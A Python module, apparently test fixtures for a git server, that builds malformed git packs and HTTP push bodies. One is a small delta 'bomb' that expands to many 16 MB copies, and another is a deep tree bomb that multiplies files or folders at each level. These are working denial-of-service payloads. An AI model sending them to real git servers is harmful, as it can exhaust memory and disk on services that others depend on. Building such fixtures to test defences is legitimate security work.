"""Packs that no git would make, as a push over HTTP brings them, or a server that is fetched from."""

from __future__ import annotations

import hashlib
import struct
import zlib

COMMIT, TREE, BLOB, DELTA = 1, 2, 3, 7
PIECE = 16 << 20
"""Bytes that one instruction of a delta copies, nearly."""


def delta_bomb(pieces: int) -> bytes:
    """The body of a push of some 17 kB, one file of which stands for `pieces` × 16 MB: a delta that copies the same
    bytes again and again (gitformat-pack(5))."""
    return _push(*delta_bomb_pack(pieces))


def delta_bomb_pack(pieces: int) -> tuple[str, bytes]:
    """Its commit and pack."""
    base = bytes(PIECE)
    base_id = _id("blob", base)
    copies = (b"\xf0\xff\xff\xff" + b"\x97\x00\x00\x00\x01") * pieces
    delta = _size(PIECE) + _size(PIECE * pieces) + copies
    tree = b"100644 big\0" + b"\x11" * 20 + b"100644 small\0" + base_id
    return _pack(tree, _object(TREE, tree), _object(BLOB, base),
                 _head(DELTA, len(delta)) + base_id + zlib.compress(delta))  # fmt: skip


def tree_bomb_pack(deep: int, leaf: bytes = b"x") -> tuple[str, bytes]:
    """Its commit and pack. Where `leaf` is empty, there are folders alone."""
    mode, below = b"100644", _id("blob", leaf)
    objects = [_object(BLOB, leaf)]
    if not leaf:
        mode, below, objects = b"40000", _id("tree", b""), [_object(TREE, b"")]
    tree = b""
    for _ in range(deep):
        tree = b"".join(b"%b %d\0" % (mode, number) + below for number in range(10))
        mode, below = b"40000", _id("tree", tree)
        objects.append(_object(TREE, tree))
    return _pack(tree, *objects)


def _pack(tree: bytes, *objects: bytes) -> tuple[str, bytes]:
    """The commit of a tree, and the pack of both and these objects."""
    who = "a <a@example.org> 1 +0000"
    commit = f"tree {_id('tree', tree).hex()}\nauthor {who}\ncommitter {who}\n\nx\n".encode()
    pack = b"PACK" + struct.pack(">II", 2, len(objects) + 1) + _object(COMMIT, commit) + b"".join(objects)
    return _id("commit", commit).hex(), pack + hashlib.sha1(pack).digest()


def _push(commit: str, pack: bytes) -> bytes:
    line = f"{'0' * 40} {commit} refs/heads/main\0report-status\n".encode()
    return b"%04x" % (len(line) + 4) + line + b"0000" + pack


def _id(kind: str, data: bytes) -> bytes:
    return hashlib.sha1(f"{kind} {len(data)}\0".encode() + data).digest()


def _object(kind: int, data: bytes) -> bytes:
    return _head(kind, len(data)) + zlib.compress(data, 9)


def _head(kind: int, size: int) -> bytes:
    """Type and size of an object: four bits of the size, then seven at a time."""
    first, rest = kind << 4 | size & 15, size >> 4
    return bytes([first | 0x80]) + _size(rest) if rest else bytes([first])


def _size(number: int) -> bytes:
    """Seven bits at a time, the lowest first."""
    found = b""
    while number > 0x7F:
        found += bytes([number & 0x7F | 0x80])
        number >>= 7
    return found + bytes([number])
